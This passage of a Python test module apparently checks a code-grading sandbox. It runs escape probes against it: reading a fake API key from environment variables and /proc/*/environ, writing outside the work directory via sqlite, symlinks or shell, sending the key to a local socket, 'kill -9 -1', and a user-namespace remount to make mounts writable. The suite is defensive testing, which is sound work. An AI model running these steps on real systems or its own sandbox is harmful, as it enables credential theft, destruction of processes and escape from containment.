            f"stdout {res.stdout[-120:]!r}, stderr {res.stderr[-200:]!r})"
        )
    return not effect, detail


def _os_parent_env() -> Outcome:
    # The key is in this process's environment and in the starting environment of
    # another process of the same user (as a bench's worker would hold it).
    os.environ["CONDUCTOR_FAKE_API_KEY"] = SECRET
    holder = subprocess.Popen(["sleep", "60"], env={**os.environ})
    try:
        code = (
            "import os, subprocess\n"
            "print(dict(os.environ))\n"
            f"cmd = 'cat /proc/[0-9]*/environ; {proof('shell')[1]}'\n"
            "print(subprocess.run(['sh', '-c', cmd], capture_output=True).stdout.decode())\n"
            f"{proof('main')[0]}\n"
        )
        res = run_sandboxed(code, limits=SandboxLimits(allow_subprocess=True))
        leaked = SECRET in res.stdout + res.stderr
        detail = "key visible" if leaked else "key not visible (env and /proc)"
        return _outcome(res, leaked, detail, "shell", "main")
    finally:
        del os.environ["CONDUCTOR_FAKE_API_KEY"]
        holder.kill()
        holder.wait()


def _outside() -> Path:
    return Path(tempfile.gettempdir()) / f"conductor-escape-{uuid.uuid4().hex}"


def _os_sqlite_write() -> Outcome:
    target = _outside()
    code = (
        "import sqlite3\n"
        "try:\n"
        f"    sqlite3.connect({str(target)!r}).execute('create table t(x)')\n"
        "except Exception as exc:\n"
        "    print('refused:', exc)\n"
        f"{proof('main')[0]}\n"
    )
    res = run_sandboxed(code)
    made = target.exists()
    target.unlink(missing_ok=True)
    detail = "file created" if made else f"not created: {res.stdout.strip()[:120]}"
    return _outcome(res, made, detail, "main")


def _os_symlink_write() -> Outcome:
    target = _outside()
    code = (
        "import subprocess\n"
        f"subprocess.run(['sh', '-c', 'ln -s {target} link; {proof('shell')[1]}'])\n"
        "try:\n"
        "    open('link', 'w').write('x')\n"
        "except OSError as exc:\n"
        "    print('refused:', exc)\n"
        f"{proof('main')[0]}\n"
    )
    res = run_sandboxed(code, limits=SandboxLimits(allow_subprocess=True))
    made = target.exists()
    target.unlink(missing_ok=True)
    detail = "file created" if made else f"not created (rc {res.returncode})"
    return _outcome(res, made, detail, "shell", "main")


def _os_shell_write() -> Outcome:
    target = _outside()
    code = (
        "import subprocess\n"
        f"subprocess.run(['sh', '-c', 'echo x > {target}; {proof('shell')[1]}'])\n"
    )
    res = run_sandboxed(code, limits=SandboxLimits(allow_subprocess=True))
    made = target.exists()
    target.unlink(missing_ok=True)
    return _outcome(res, made, "file created" if made else "not created", "shell")


def _os_network() -> Outcome:
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.bind(("127.0.0.1", 0))
    srv.listen(5)
    srv.settimeout(0.5)
    port = srv.getsockname()[1]
    inner = (
        "import socket\n"
        "try:\n"
        f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
        f"    s.sendall(b'{SECRET}')\n"
        "except OSError as exc:\n"
        "    print('refused:', exc)\n"
        f"{proof('child')[0]}\n"
    )
    code = f"import subprocess, sys\nsubprocess.run([sys.executable, '-c', {inner!r}])\n"
    res = run_sandboxed(code, limits=SandboxLimits(allow_subprocess=True, wall_time_s=10))
    try:
        conn, _ = srv.accept()
        conn.close()
        connected = True
    except TimeoutError:
        connected = False
    finally:
        srv.close()
    detail = "connected to 127.0.0.1" if connected else "no connection reached 127.0.0.1"
    return _outcome(res, connected, detail, "child")


def _os_kill_everything(everything: bool = True) -> Outcome:
    """``kill -9 -1`` and the bench's and a canary's pid.  (Its positive control kills
    only the canary, by pid: ``kill -9 -1`` is not run outside a sandbox.)  The shell
    says it is there before it kills: after ``kill -9 -1`` nothing of the run is left to
    say anything."""
    canary = subprocess.Popen(["sleep", "60"])
    try:
        targets = f"{os.getpid()} {canary.pid}" if everything else str(canary.pid)
        kill = "kill -9 -1; " if everything else ""
        shell = f"{proof('shell')[1]}; {kill}kill -9 {targets}"
        code = f"import subprocess\nsubprocess.run(['sh', '-c', {shell!r}])\n"
        res = run_sandboxed(code, limits=SandboxLimits(allow_subprocess=True))
        with contextlib.suppress(subprocess.TimeoutExpired):
            canary.wait(timeout=5) if not everything else None
        alive = canary.poll() is None
        detail = "bench and a process of the same user survive" if alive else "canary killed"
        return _outcome(res, not alive, detail, "shell")
    finally:
        canary.kill()
        canary.wait()


def _os_see_processes() -> Outcome:
    code = (
        "import os\n"
        "print(sorted(int(p) for p in os.listdir('/proc') if p.isdigit()))\n"
        f"{proof('main')[0]}\n"
    )
    res = run_sandboxed(code)
    try:
        pids = json.loads(res.stdout.splitlines()[0])
    except (ValueError, IndexError):
        pids = []
    # the program sees itself at least: an empty list is not a wall
    seen = not pids or os.getpid() in pids or len(pids) > 5
    return _outcome(res, seen, f"visible pids: {pids[:8]}", "main")


def _os_home_secret() -> Outcome:
    home = Path(tempfile.mkdtemp(prefix="conductor-home-"))
    (home / "credentials").write_text(SECRET)
    old = os.environ.get("HOME")
    os.environ["HOME"] = str(home)
    try:
        cmd = f"cat {home / 'credentials'}; {proof('shell')[1]}"
        code = (
            "import subprocess\n"
            f"print(subprocess.run(['sh', '-c', {cmd!r}], capture_output=True).stdout.decode())\n"
        )
        res = run_sandboxed(code, limits=SandboxLimits(allow_subprocess=True))
        leaked = SECRET in res.stdout
        return _outcome(res, leaked, "read" if leaked else "home directory hidden", "shell")
    finally:
        if old is None:
            del os.environ["HOME"]
        else:
            os.environ["HOME"] = old
        (home / "credentials").unlink()
        home.rmdir()


def _os_python_in_private_home() -> Outcome:
    """Grading with an interpreter (a venv) under a private (0700) home directory."""
    home = Path(tempfile.mkdtemp(prefix="conductor-home-"))
    os.chmod(home, 0o700)
    bases = [getattr(sys, "_base_executable", ""), sys.executable, "/usr/bin/python3"]
    base = next(b for b in bases if b and os.access(os.path.realpath(b), os.R_OK | os.X_OK))
    try:
        subprocess.run(
            [base, "-m", "venv", "--without-pip", str(home / "venv")],
            check=True,
            capture_output=True,
        )
        grader = CodeGrader(python=str(home / "venv" / "bin" / "python"))
        verdict = grader.grade(
            "```python\na, b = map(int, input().split())\nprint(a + b)\n```", _sample("stdin")
        )
        ok = verdict.status == "correct"
        return ok, f"{verdict.status}: {verdict.reason[:100]}"
    finally:
        subprocess.run(["rm", "-rf", str(home)], check=False)


_NESTED = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.mount.argtypes = [ctypes.c_char_p] * 3 + [ctypes.c_ulong, ctypes.c_void_p]
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
MS_REMOUNT, MS_BIND = 32, 4096
print("unshare", libc.unshare(CLONE_NEWUSER | CLONE_NEWNS), ctypes.get_errno())
target = sys.argv[1]
top = os.path.dirname(target)
for point in ("/", top):
    print("remount", point, libc.mount(None, point.encode(), None, MS_REMOUNT | MS_BIND, None))
    print("umount", point, libc.umount2(point.encode(), 2))
try:
    open(target, "w").write("x")
    print("WROTE")
except OSError as exc:
    print("write", exc)
"""


def _os_nested_namespace() -> Outcome:
    target = _outside()
    inner = _NESTED + proof("child")[0] + "\n"
    code = (
        "import subprocess, sys\n"
        f"r = subprocess.run([sys.executable, '-c', {inner!r}, {str(target)!r}],"
        " capture_output=True, text=True)\n"
        "print(r.stdout, r.stderr)\n"
    )
    res = run_sandboxed(code, limits=SandboxLimits(allow_subprocess=True))
    made = target.exists()
    target.unlink(missing_ok=True)
    # the namespace itself is the step refused (bubblewrap's mounts are locked too)
    nested = "unshare 0 " in res.stdout
    detail = "file created" if made else " ".join(res.stdout.split())[:150]
    return _outcome(res, made or nested, detail, "child")


OS_ATTACKS: dict[str, Callable[[], Outcome]] = {
    "os: read API keys from the environment and /proc/*/environ": _os_parent_env,
    "os: write outside the work dir with sqlite (native code)": _os_sqlite_write,
    "os: write outside through a symlink made by a child process": _os_symlink_write,
    "os: write outside from a shell (no audit hook)": _os_shell_write,
    "os: send a key to a server on 127.0.0.1 from a child process": _os_network,
    "os: kill -9 -1 and kill the bench": _os_kill_everything,
    "os: new user namespace in the sandbox to remount read-write": _os_nested_namespace,
    "os: see other processes in /proc": _os_see_processes,
    "os: read a file in the user's home directory": _os_home_secret,
    "grading works with Python in a private home dir": _os_python_in_private_home,
}

#: How each OS attack's positive control takes its wall down (see
#: :func:`kit.sandbox_escapes.positive_control`); the kill's control kills one canary.
OS_CONTROLS: dict[str, str | tuple[str, ...]] = {
    "os: read API keys from the environment and /proc/*/environ": "unsandboxed",
    "os: write outside the work dir with sqlite (native code)": "unsandboxed",
    "os: write outside through a symlink made by a child process": "unsandboxed",
    "os: write outside from a shell (no audit hook)": "unsandboxed",
    "os: send a key to a server on 127.0.0.1 from a child process": "unsandboxed",
    "os: kill -9 -1 and kill the bench": "unsandboxed",
    "os: new user namespace in the sandbox to remount read-write": ("bwrap-seccomp",),
    "os: see other processes in /proc": "unsandboxed",
    "os: read a file in the user's home directory": "unsandboxed",
}


def run_os_control(name: str) -> Outcome:
    from kit.sandbox_escapes import positive_control

    attack = OS_ATTACKS[name]
    if name == "os: kill -9 -1 and kill the bench":
        return positive_control(lambda: _os_kill_everything(everything=False), "unsandboxed")
    return positive_control(attack, OS_CONTROLS[name])


ATTACKS: dict[str, Callable[[], Outcome]] = {
    **{name: grading_attack(name) for name in GRADING},
    **{name: honest_bcb(name) for name in BCB_HONEST},
    **OS_ATTACKS,
}


def run_all() -> dict[str, Outcome]:
    return {name: attack() for name, attack in ATTACKS.items()}


def run_on_a_sandbox_that_runs_nothing() -> dict[str, Outcome]:
    """Every OS attack on a sandbox broken to run nothing (the positive control of their
    proofs that they ran): none may be defended."""
    from kit.sandbox_escapes import runs_nothing

    with runs_nothing():
        return {name: OS_ATTACKS[name]() for name in OS_CONTROLS}


if __name__ == "__main__":
    if sys.argv[1:] == ["--controls"]:
        print(json.dumps({name: run_os_control(name) for name in OS_CONTROLS}))
    elif sys.argv[1:] == ["--runs-nothing"]:
        print(json.dumps(run_on_a_sandbox_that_runs_nothing()))
    else:
        names = sys.argv[1:] or list(ATTACKS)
        print(json.dumps({name: ATTACKS[name]() for name in names}))
